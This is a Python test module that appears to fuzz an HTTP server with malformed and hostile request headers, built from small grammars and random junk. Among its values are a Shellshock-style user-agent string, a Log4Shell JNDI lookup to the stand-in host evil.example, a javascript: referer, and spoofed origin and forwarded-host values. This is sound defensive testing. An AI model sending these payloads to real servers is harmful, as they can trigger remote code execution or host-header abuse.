"""Header fields, each by a small grammar and by random junk."""

from __future__ import annotations

from collections.abc import Callable, Mapping, Sequence
from random import Random

from tests.hostile.estate import Estate

Maker = Callable[[Random, Estate], str]

TYPES = (
    "application/ld+json",
    "application/json",
    "text/turtle",
    "application/problem+json",
    "*/*",
    "text/html",
)
JUNK = (
    '"',
    ",",
    ";",
    "=",
    "*",
    "/",
    " ",
    "\t",
    "q=",
    "W/",
    "\\",
    "\xe9",
    "\xff",
    "(",
    ")",
    "<",
    ">",
    "a",
    "0",
    "-",
)


def _junk(random: Random, *_: object) -> str:
    if random.random() < 0.02:
        return random.choice(JUNK) * random.choice((1_000, 40_000))
    return "".join(random.choices(JUNK, k=random.randint(0, 20)))


def _list(random: Random, members: Sequence[str]) -> str:
    return random.choice((",", ", ", " , ", ",,")).join(
        random.choices(members, k=random.choice((1, 1, 2, 5, 40)))
    )


def _accept(random: Random, _: Estate) -> str:
    weights = (
        "",
        "",
        ";q=0.5",
        ";q=0",
        "; q=1.000",
        ";q=2",
        ";q=NaN",
        ';profile="http://x"',
        ';q=0.1;x="a,b"',
    )
    return _list(
        random, [kind + random.choice(weights) for kind in (*TYPES, "image/png", "*", "a/", "/b", "text/*")]
    )


def _accept_encoding(random: Random, _: Estate) -> str:
    weights = ("", "", ";q=0", ";q=0.5", ";q=x")
    return _list(
        random,
        [name + random.choice(weights) for name in ("gzip", "zstd", "br", "identity", "*", "x-gzip", "")],
    )


def _tags(random: Random, estate: Estate) -> str:
    tag = random.choice(estate.tags)
    version = tag.partition(".")[0]
    changed = (
        tag,
        tag,
        f"W/{tag}",
        tag.strip('"'),
        f'{version}.0"',
        '"1.0"',
        '"2."',
        tag[:-3],
        f'{tag[:-4]}\xe9"',
        "*",
    )
    return _list(random, changed)


def _preferences(random: Random, _: Estate) -> str:
    known = (
        "return=minimal",
        "return=representation",
        "handling=strict",
        "handling=lenient",
        "respond-async",
    )
    return _list(
        random, (*known, "wait=9999", 'return="minimal"; x=y', "return=", "=", "Return=MINIMAL", "handling")
    )


def _key(random: Random, _: Estate) -> str:
    known = (
        '"k1"',
        '"k2"',
        "k1",
        '"k3";a=b',
        '"\xe9"',
        '""',
        '"' + "k" * 300 + '"',
        "'k'",
        ":aGk=:",
        '("a")',
        '"\\"',
    )
    return random.choice(known)


def _one_of(*values: str) -> Maker:
    return lambda random, _: random.choice(values)


FIELDS: Mapping[str, tuple[float, Maker]] = {
    "accept": (0.4, _accept),
    "accept-encoding": (0.2, _accept_encoding),
    "if-match": (0.15, _tags),
    "if-none-match": (0.12, _tags),
    "if-modified-since": (0.02, _one_of("Thu, 01 Jan 1970 00:00:00 GMT", "yesterday")),
    "if-unmodified-since": (0.02, _one_of("Thu, 01 Jan 2099 00:00:00 GMT", "0")),
    "if-range": (0.02, _tags),
    "range": (0.04, _one_of("bytes=0-1", "bytes=-1", "bytes=9-1", "bytes=" + "0-1," * 500, "items=0-")),
    "prefer": (0.15, _preferences),
    "idempotency-key": (0.12, _key),
    "content-encoding": (0.03, _one_of("gzip", "identity", "br, gzip", "")),
    "content-language": (0.02, _one_of("de", "\xff")),
    "accept-language": (0.03, _one_of("de-DE", "*;q=0", ",")),
    "accept-charset": (0.02, _one_of("utf-16", "*")),
    "accept-profile": (0.02, _one_of("<http://x>", "<")),
    "traceparent": (
        0.06,
        _one_of(f"00-{'a' * 32}-{'b' * 16}-01", f"ff-{'0' * 32}-{'0' * 16}-00", "00-", "x" * 9_000),
    ),
    "tracestate": (0.02, _one_of("a=b", "=" * 600)),
    "origin": (0.08, _one_of("https://evil.example", "null", "")),
    "access-control-request-method": (0.05, _one_of("PATCH", "FROB", "", "*")),
    "access-control-request-headers": (0.03, _one_of("authorization", "*,\xff")),
    "access-control-request-private-network": (0.01, _one_of("true")),
    "expect": (0.03, _one_of("100-continue", "200-ok", "")),
    "cookie": (0.03, _one_of("session=1", "=" * 3_000)),
    "x-http-method-override": (0.03, _one_of("DELETE", "PATCH")),
    "x-forwarded-host": (0.03, _one_of("evil.example", "\xff")),
    "x-forwarded-proto": (0.02, _one_of("https", "gopher")),
    "x-forwarded-prefix": (0.02, _one_of("/evil")),
    "x-original-url": (0.02, _one_of("/api/docs")),
    "forwarded": (0.02, _one_of('for="[::1]";host=evil.example', "for=;;")),
    "x-request-id": (0.02, _one_of("evil", "\xff" * 500)),
    "te": (0.02, _one_of("trailers", "chunked;q=0")),
    "transfer-encoding": (0.01, _one_of("chunked", "gzip, chunked", "identity", "xchunked")),
    "connection": (0.02, _one_of("close", "host, authorization", "upgrade")),
    "upgrade": (0.01, _one_of("h2c", "websocket")),
    "user-agent": (0.02, _one_of("() { :; }; echo", "${jndi:ldap://evil.example/a}")),
    "referer": (0.01, _one_of("javascript:alert(1)")),
    "x-many": (0.003, _one_of("x")),
}


def odd_fields(random: Random, estate: Estate) -> list[tuple[str, str]]:
    fields = []
    for name, (share, grammar) in FIELDS.items():
        if random.random() >= share:
            continue
        times = 120 if name == "x-many" else random.choices((1, 2, 3), (92, 6, 2))[0]
        make: Maker = _junk if random.random() < 0.12 else grammar
        fields += [(name, make(random, estate)) for _ in range(times)]
    return fields
